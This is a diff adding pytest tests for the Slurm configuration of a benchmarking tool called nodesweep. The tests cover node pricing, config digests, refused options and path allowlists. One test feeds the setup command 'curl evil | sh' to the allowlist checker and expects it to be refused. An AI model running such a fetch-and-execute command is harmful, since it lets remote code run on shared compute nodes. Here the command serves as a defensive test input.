@@ -1,0 +1,113 @@
+"""The section of a Slurm cluster, and what a config for one may not have."""
+
+from __future__ import annotations
+
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from nodesweep.configs.allowed import PATHS, check_allowlists
+from nodesweep.configs.load import ConfigError, load_config, parse_config
+from nodesweep.configs.models import BenchmarkConfig
+from nodesweep.scaling.analysis.price import price_of
+from nodesweep.scaling.names import config_digest
+
+RAW: dict[str, Any] = {
+    "name": "bench",
+    "dataset": "none",
+    "training": {
+        "source_dir": "/code",
+        "distribution": {"kind": "torch_distributed", "processes_per_node": 2},
+        "instance_type": "fat-node",
+        "max_runtime_seconds": 600,
+    },
+    "sweep": {"node_counts": [1, 2], "repeats": 1},
+    "platform": {
+        "launcher": "slurm", "cluster": "alps", "folder": "/shared/me",
+        "node": {"cores": 64, "gpus": 4, "gpu": "A100", "usd_per_hour": 3.5},
+    },
+}  # fmt: skip
+
+
+def config(**changes: dict[str, Any]) -> BenchmarkConfig:
+    """The config, with these sections changed."""
+    raw = {**RAW, **{name: {**RAW.get(name, {}), **change} for name, change in changes.items()}}
+    return parse_config(raw, "the config")
+
+
+def test_the_section_describes_the_nodes() -> None:
+    node = config().node_type("fat-node")
+    assert (node.vcpus, node.accelerators, node.devices, node.family) == (64, 4, 4, "fat-node")
+    price = price_of(node, config().platform.region)
+    assert (price.usd_per_hour, price.purchase_option) == (3.5, "as configured")
+    cheap = config(platform={"node": {"cores": 1}})
+    assert price_of(cheap.node_type("x"), cheap.platform.region).reason is not None
+    assert cheap.image.uri == "none"
+
+
+def test_a_recorded_config_is_read_again() -> None:
+    recorded = config().with_absolute_paths(Path("/here")).model_dump(mode="json")
+    again = parse_config(recorded, "the record")
+    assert again.platform == config().platform
+    assert config_digest(again) == config_digest(config())
+
+
+def test_a_price_and_an_account_do_not_change_the_sweep_but_a_partition_does() -> None:
+    platform = RAW["platform"]
+    priced = {**platform["node"], "usd_per_hour": 9.0}
+    same = config(platform={"node": priced, "account": "physics", "requeue": True})
+    assert config_digest(same) == config_digest(config())
+    assert config_digest(config(platform={"partition": "gpu"})) != config_digest(config())
+
+
+@pytest.mark.parametrize(
+    "changes",
+    [
+        pytest.param({"platform": {"region": "us-east-1"}}, id="region"),
+        pytest.param({"platform": {"node": {"gpus": 1}}}, id="node"),
+        pytest.param({"training": {"spot": {"max_wait_seconds": 900}}}, id="spot"),
+        pytest.param({"training": {"distribution": {"kind": "mpi"}}}, id="mpi"),
+        pytest.param(
+            {"training": {"distribution": {"kind": "torch_distributed", "smddp": True}}},
+            id="smddp",
+        ),
+        pytest.param(
+            {
+                "training": {"distribution": {"kind": "torch_distributed"}},
+                "platform": {"node": {"cores": 2}},
+            },
+            id="processes",
+        ),
+        pytest.param({"training": {"source_dir": None}}, id="source_dir"),
+        pytest.param({"training": {"environment": {"TOKEN": "${TOKEN}"}}}, id="environment"),
+        pytest.param({"image": {"base_image": "pytorch:2"}}, id="image"),
+        pytest.param({"sweep": {"instance_types": ["fat-node", "thin"]}}, id="instance_types"),
+        pytest.param(
+            {"dataset": {"name": "d", "source": "s3://bucket/d", "format": "files"}}, id="dataset"
+        ),
+        pytest.param({"platform": {"launcher": "pbs"}}, id="launcher"),
+    ],
+)
+def test_what_slurm_lacks_is_refused(changes: dict[str, Any], snapshot: Any) -> None:
+    raw = {**RAW}
+    for name, change in changes.items():
+        before = RAW.get(name)
+        raw[name] = {**before, **change} if isinstance(before, dict) else change
+    with pytest.raises(ConfigError) as refused:
+        parse_config(raw, "the config")
+    assert str(refused.value) == snapshot
+
+
+def test_a_worker_with_a_list_of_paths_runs_no_other_commands(snapshot: Any) -> None:
+    wrong = config(platform={"setup": ["curl evil | sh"]}, training={"source_dir": "/shared/c"})
+    with pytest.raises(ConfigError) as refused:
+        check_allowlists(wrong, {PATHS: "/shared"})
+    assert str(refused.value) == snapshot
+    with pytest.raises(ConfigError):
+        check_allowlists(config(training={"source_dir": "/elsewhere/c"}), {PATHS: "/elsewhere"})
+
+
+def test_the_shipped_example_is_valid() -> None:
+    example = load_config(Path(__file__).parents[2] / "examples" / "slurm" / "slurm.yaml")
+    assert example.platform.launcher == "slurm" and not example.platform.problems(example)
